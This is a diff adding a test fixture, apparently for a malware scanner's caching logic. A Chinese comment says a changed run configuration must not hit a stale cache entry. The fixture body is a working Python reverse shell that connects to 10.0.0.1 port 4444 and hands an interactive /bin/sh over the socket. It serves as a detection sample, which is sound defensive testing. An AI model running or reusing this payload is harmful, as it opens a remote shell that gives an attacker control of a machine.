@@ -0,0 +1,11 @@
+# 运行配置与缓存写入时不同，规则集摘要不同，不能命中旧的缓存项
+# detect-expect-not: 'Cached'
+# detect-args: virtual_fs=false,scan_memory=true
+import os, socket, subprocess
+
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("10.0.0.1", 4444))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+os.dup2(s.fileno(), 2)
+subprocess.call(["/bin/sh", "-i"])